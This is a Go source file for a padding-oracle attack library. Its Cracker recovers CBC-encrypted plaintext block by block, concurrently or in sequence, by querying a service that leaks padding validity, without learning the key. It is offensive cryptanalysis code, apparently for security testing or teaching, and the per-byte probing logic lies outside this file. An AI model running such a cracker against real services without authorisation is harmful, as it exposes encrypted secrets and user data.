// Package paddingoracle recovers CBC plaintext through a padding oracle: a
// service that decrypts what it is given and leaks only whether the padding
// was valid. The key is never learned.
package paddingoracle

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log"
	"time"

	"golang.org/x/sync/errgroup"

	"github.com/mario-areias/padding-oracle/oracle"
	"github.com/mario-areias/padding-oracle/pkcs7"
)

const DefaultBlockLength = 16

// Progress receives a rendering of a block each time one of its bytes is
// recovered. Blocks cracked concurrently report concurrently.
type Progress interface {
	Update(block int, view string)
}

type discard struct{}

func (discard) Update(int, string) {}

type Option func(*Cracker)

// WithBlockLength sets the block length of the attacked cipher.
func WithBlockLength(n int) Option {
	return func(c *Cracker) { c.blockLength = n }
}

func WithLogger(l *log.Logger) Option {
	return func(c *Cracker) { c.logger = l }
}

func WithProgress(p Progress) Option {
	return func(c *Cracker) { c.progress = p }
}

// WithSequentialBlocks cracks one block at a time, in order.
func WithSequentialBlocks() Option {
	return func(c *Cracker) { c.sequential = true }
}

// WithExhaustiveProbes queries all 256 candidates of every byte, at most limit
// at a time (no limit if limit <= 0), and fails unless exactly one is confirmed.
// It costs the full 256 queries per byte where racing stops at the first hit.
func WithExhaustiveProbes(limit int) Option {
	return func(c *Cracker) {
		c.exhaustive = true
		c.probeLimit = limit
	}
}

// Cracker decrypts one IV and ciphertext. It never mutates its inputs; all
// recovery state lives in one Block per ciphertext block.
type Cracker struct {
	iv          []byte
	ciphertext  []byte
	blockLength int
	blocks      int
	oracle      oracle.Oracle

	logger     *log.Logger
	progress   Progress
	sequential bool
	exhaustive bool
	probeLimit int
}

// New validates the input lengths before any query reaches the oracle.
func New(iv, ciphertext []byte, o oracle.Oracle, opts ...Option) (*Cracker, error) {
	c := &Cracker{
		blockLength: DefaultBlockLength,
		oracle:      o,
		logger:      log.New(io.Discard, "", 0),
		progress:    discard{},
	}
	for _, opt := range opts {
		opt(c)
	}

	if c.blockLength < 1 || c.blockLength > 255 {
		return nil, fmt.Errorf("%w: got %d", ErrInvalidBlockLength, c.blockLength)
	}
	if len(iv) != c.blockLength {
		return nil, fmt.Errorf("%w: got %d bytes, block length is %d", ErrInvalidIV, len(iv), c.blockLength)
	}
	if len(ciphertext) == 0 || len(ciphertext)%c.blockLength != 0 {
		return nil, fmt.Errorf("%w: got %d bytes, block length is %d", ErrInvalidCiphertext, len(ciphertext), c.blockLength)
	}

	c.iv = bytes.Clone(iv)
	c.ciphertext = bytes.Clone(ciphertext)
	c.blocks = len(ciphertext) / c.blockLength
	return c, nil
}

// Blocks returns the number of ciphertext blocks.
func (c *Cracker) Blocks() int {
	return c.blocks
}

func (c *Cracker) precedingBlock(i int) []byte {
	if i == 0 {
		return c.iv
	}
	return c.ciphertextBlock(i - 1)
}

func (c *Cracker) ciphertextBlock(i int) []byte {
	return c.ciphertext[i*c.blockLength : (i+1)*c.blockLength]
}

// CrackBlock recovers the padded plaintext of ciphertext block i.
func (c *Cracker) CrackBlock(ctx context.Context, i int) ([]byte, error) {
	if i < 0 || i >= c.blocks {
		return nil, fmt.Errorf("paddingoracle: block %d out of range [0, %d)", i, c.blocks)
	}

	b, err := NewBlock(i, c.precedingBlock(i), c.ciphertextBlock(i), c.oracle)
	if err != nil {
		return nil, err
	}
	b.exhaustive = c.exhaustive
	b.limit = c.probeLimit

	start := time.Now()
	c.logger.Printf("[Block #%03d] => cracking", i)
	c.progress.Update(i, b.String())

	for !b.Complete() {
		if err := b.Step(ctx); err != nil {
			c.logger.Printf("[Block #%03d] => Error: %v", i, err)
			return nil, err
		}
		c.progress.Update(i, b.String())
	}

	c.logger.Printf("[Block #%03d] => cracked, elapsed time: %v", i, time.Since(start))
	return b.Plaintext(), nil
}

// CrackPlaintext recovers and unpads the whole plaintext.
//
// Blocks are cracked concurrently unless WithSequentialBlocks is set. The first
// block to fail cancels the others and its error is returned; no partial
// plaintext is ever returned.
func (c *Cracker) CrackPlaintext(ctx context.Context) ([]byte, error) {
	start := time.Now()
	c.logger.Printf("A total of %d blocks need to be cracked", c.blocks)

	plaintext := make([]byte, len(c.ciphertext))
	crack := func(ctx context.Context, i int) error {
		block, err := c.CrackBlock(ctx, i)
		if err != nil {
			return err
		}
		copy(plaintext[i*c.blockLength:], block)
		return nil
	}

	if c.sequential {
		for i := range c.blocks {
			if err := crack(ctx, i); err != nil {
				return nil, err
			}
		}
	} else {
		g, ctx := errgroup.WithContext(ctx)
		for i := range c.blocks {
			g.Go(func() error { return crack(ctx, i) })
		}
		if err := g.Wait(); err != nil {
			return nil, err
		}
	}

	c.logger.Printf("All %d blocks are cracked, elapsed time: %v", c.blocks, time.Since(start))
	return c.unpad(plaintext)
}

// unpad strips the padding, re-checking every padding byte instead of trusting
// the last one.
func (c *Cracker) unpad(plaintext []byte) ([]byte, error) {
	unpadded, err := pkcs7.Unpad(plaintext, c.blockLength)
	if err != nil {
		return nil, fmt.Errorf("paddingoracle: recovered plaintext: %w", err)
	}
	return unpadded, nil
}
